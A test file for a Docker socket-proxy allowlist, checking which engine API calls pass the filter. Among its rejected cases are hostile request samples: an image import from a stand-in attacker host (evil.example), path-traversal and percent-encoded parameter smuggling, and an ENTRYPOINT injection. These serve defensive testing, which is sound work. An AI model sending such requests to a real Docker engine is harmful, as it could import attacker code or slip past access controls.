import fc from 'fast-check';
import { readFileSync } from 'node:fs';
import path from 'node:path';
import { type Asked, callMatcher } from '../../../src/adapters/docker/socket-proxy/call-filter';
import { ENGINE_CALLS, WATCHER_CALLS } from '../../../src/adapters/docker/calls';

const match = callMatcher(ENGINE_CALLS);
const passes = (asked: Asked): boolean => match(asked) !== null;
const asks = (line: string): boolean => {
  const [method = '', url = ''] = line.split(' ');
  return passes({ method, url });
};
const ID = 'f'.repeat(64);

test.each([
  'GET /_ping',
  'HEAD /_ping',
  'GET /v1.45/containers/json?all=true',
  `GET /v1.45/containers/${ID}/json`,
  'POST /containers/git-nginx-1/stop?t=10',
  'POST /v1.45/containers/create?name=git-nginx-1.diun-pilot-new-1',
  'GET /v1.45/images/127.0.0.1:5000/library/nginx:1.30.4/json',
  `GET /v1.45/images/sha256:${ID}/json`,
  `GET /v1.45/distribution/docker.io/gitea/gitea@sha256:${ID}/json`,
  'DELETE /v1.45/images/lab/nginx:1',
  'POST /v1.45/images/create?fromImage=a&tag=b',
])('%s passes', (line) => expect(asks(line)).toBe(true));

test.each([
  'GET /configs',
  'POST /services/create',
  'DELETE /services/web',
  'POST /build',
  'GET /secrets',
  'POST /swarm/init',
  'POST /containers/prune',
  'GET /containers/json/',
  'DELETE /containers/json/x',
  `GET /containers/${ID}/export`,
  `POST /containers/${ID}/attach`,
  `PATCH /containers/${ID}/json`,
  'DELETE /volumes/git_postgres',
  'GET /images/../containers/json',
  'DELETE /images/../containers/x',
  'DELETE /images/a/%2e%2e/b',
  'GET /images//json',
  'GET //containers/json',
  'GET /v1.45/v1.45/containers/json',
  'GET /v1.45containers/json',
  'GET http://engine/containers/json',
  'GET *',
  'GET ',
])('%s does not', (line) => expect(asks(line)).toBe(false));

test.each([
  'POST /v1.45/images/create?fromSrc=http://evil.example/root.tar&repo=lab/nginx&tag=1',
  'POST /images/create?fromImage=a&tag=b&fromSrc=-',
  'POST /services/web/update?version=1&other=1',
  'POST /images/create?fromImage=a&%66romSrc=-',
  'POST /images/create?fromImage=a;fromSrc=-',
  'POST /images/create?fromImage=a&changes=ENTRYPOINT+x',
  'DELETE /containers/x?v=true&link=true',
  'DELETE /images/lab/nginx:1?force=true',
  'POST /containers/x/start?detachKeys=a',
  'POST /containers/x/exec?x',
])('%s does not: that call has no such parameter', (line) => expect(asks(line)).toBe(false));

test.each([
  ['application/x-www-form-urlencoded', false],
  ['Application/X-WWW-Form-URLencoded; charset=utf-8', false],
  ['multipart/form-data; boundary=x', false],
  ['application/json', true],
  ['application/tar', true],
  [undefined, true],
])('a change with a body of type %s passes: %s', (contentType, expected) => {
  expect(passes({ method: 'POST', url: '/images/create?fromImage=a&tag=b', contentType })).toBe(expected);
});

test('a call that changes nothing may have any parameter', () => {
  expect(asks('GET /containers/json?filters=x&limit=3&size=1')).toBe(true);
});

test('whatever is made up passes only if it is a listed call by its letters', () => {
  const part = fc.oneof(
    fc.constantFrom(
      'containers',
      'images',
      'exec',
      'json',
      'create',
      'start',
      '..',
      '.',
      '',
      'v1.45',
      '%2e%2e',
      'volumes',
    ),
    fc.string({ maxLength: 8 }),
  );
  const method = fc.constantFrom('GET', 'POST', 'PUT', 'DELETE', 'OPTIONS', 'CONNECT', 'get');
  const words = ['_ping', 'version', 'containers', 'exec', 'images', 'distribution', 'networks'];
  fc.assert(
    fc.property(method, fc.array(part, { maxLength: 5 }), (verb, parts) => {
      const url = `/${parts.join('/')}`;
      if (!passes({ method: verb, url })) return;
      const [first, ...rest] = url
        .split('?')[0]!
        .slice(1)
        .replace(/^v1\.\d+\//, '')
        .split('/');
      expect(words).toContain(first);
      expect(rest.some((one) => ['', '.', '..'].includes(one) || /[^A-Za-z0-9_.:@-]/.test(one))).toBe(false);
    }),
    { numRuns: 20_000 },
  );
});

test('who only watches can neither change nor read a container', () => {
  const watched = callMatcher(WATCHER_CALLS);
  const watching = (asked: Asked): boolean => watched(asked) !== null;
  expect(WATCHER_CALLS.every((call) => call.startsWith('GET '))).toBe(true);
  expect(watching({ method: 'GET', url: `/containers/${ID}/archive?path=/data` })).toBe(false);
  expect(watching({ method: 'POST', url: `/containers/${ID}/exec` })).toBe(false);
});

test('docs/engine-calls.md lists exactly the calls that are made, each with its why', () => {
  const doc = readFileSync(path.join(__dirname, '../../../docs/engine-calls.md'), 'utf8');
  const rows = [...doc.matchAll(/^\| `(\w+ [^`]+)`\s*\| (.+?)\s*\| (yes)?\s*\|$/gm)];
  expect(rows.map(([, call]) => call)).toEqual([...ENGINE_CALLS]);
  expect(rows.filter(([, , , watcher]) => watcher === 'yes').map(([, call]) => call)).toEqual([...WATCHER_CALLS]);
  for (const [, call, why] of rows) expect([call, (why ?? '').length > 15]).toEqual([call, true]);
});
